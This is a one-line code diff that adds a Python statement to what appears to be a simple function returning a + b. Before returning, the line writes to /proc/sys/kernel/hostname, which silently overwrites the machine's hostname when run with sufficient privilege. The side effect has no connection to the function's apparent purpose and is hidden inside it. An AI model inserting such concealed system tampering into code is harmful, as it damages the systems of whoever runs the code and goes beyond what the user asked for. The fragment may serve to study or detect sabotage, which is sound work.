@@ -1,0 +1,1 @@
+    open('/proc/sys/kernel/hostname', 'w').write('x'); return a + b
